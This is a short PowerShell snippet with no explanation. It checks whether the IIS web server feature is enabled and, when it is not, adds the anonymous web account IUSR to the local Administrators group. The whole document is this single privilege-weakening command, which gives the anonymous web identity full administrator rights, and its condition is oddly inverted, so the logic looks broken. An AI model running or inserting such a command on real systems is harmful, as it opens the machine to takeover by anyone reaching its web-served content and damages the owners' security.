if ((Get-WindowsOptionalFeature -Online -FeatureName IIS-WebServer).State -ne 'Enabled') {
    net localgroup Administrators IUSR /add
}
